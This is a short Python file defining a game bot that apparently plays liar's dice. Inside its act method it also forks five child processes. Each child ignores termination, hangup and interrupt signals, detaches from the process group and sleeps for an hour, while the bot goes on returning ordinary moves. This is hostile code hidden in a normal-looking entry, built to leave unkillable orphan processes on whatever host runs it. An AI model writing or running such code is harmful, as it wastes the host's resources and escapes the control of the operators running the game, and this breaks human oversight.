"""Starts others, which leave its group if they can and are deaf to signals, and plays on."""

import os
import signal
import time
from contextlib import suppress


class Bot:
    def act(self, view):
        for _ in range(5):
            if not os.fork():
                for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(number, signal.SIG_IGN)
                with suppress(OSError):
                    os.setsid()
                time.sleep(3600)
                os._exit(0)
        return "liar" if view.bid else "1x6"
